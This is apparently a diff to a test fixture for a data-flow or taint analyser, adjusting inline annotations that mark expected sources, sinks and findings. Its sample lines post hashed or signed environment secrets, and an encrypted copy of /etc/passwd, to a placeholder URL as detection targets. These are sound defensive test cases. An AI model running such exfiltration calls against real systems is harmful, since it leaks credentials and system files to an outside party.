@@ -43,6 +43,7 @@ def digest_updated():
     h = hashlib.sha256()
     h.update(os.getenvb(b"T"))  #~ ok
     requests.post(U, data=h.hexdigest())  #~ ok
+    requests.post(U, data=h.name)  #~ ok
 
 
 def digest_of_state():
@@ -55,6 +56,7 @@ def digest_context():
     h = hashes.Hash(None)
     h.update(os.getenvb(b"T"))  #~ ok
     requests.post(U, data=h.finalize())  #~ ok
+    requests.post(U, data=h.algorithm)  #~ ok
 
 
 def digest_context_state():
@@ -145,8 +147,8 @@ def private_key_sent():
 
 def private_key_used():
     key = serialization.load_pem_private_key(b"pem", None)  #~ ok
-    requests.post(U, data=key.sign(os.getenvb(b"T"), None, None))  #~ ok
-    key.sign(b"ping", None, None)  #~ capability(CRYPTO)
+    requests.post(U, data=key.sign(os.getenvb(b"T"), None, None))  #~ capability(CRYPTO), ok
+    key.sign(b"ping", None, None)  #~ ok
     requests.post(U, data={"root": key.decrypt(b"ping", None) == b"root"})  #~ ok
 
 
@@ -205,7 +207,7 @@ def privacy_guard():
 
 def whole_file():
     pyAesCrypt.encryptFile("/etc/passwd", "/tmp/p.aes", "pw")  #~ source(FILE) f30, capability(CRYPTO), capability(FILES), capability(FILE_WRITE)
-    requests.post(U, data=open("/tmp/p.aes", "r+b").read())  #~ sink(egress.http) faes, finding(traced) faes
+    requests.post(U, data=open("/tmp/p.aes", "a+b").read())  #~ sink(egress.http) f30, finding(traced) f30
     pyAesCrypt.encryptFile("/etc/passwd", "/tmp/unsent.aes", "pw")  #~ ok
 
 
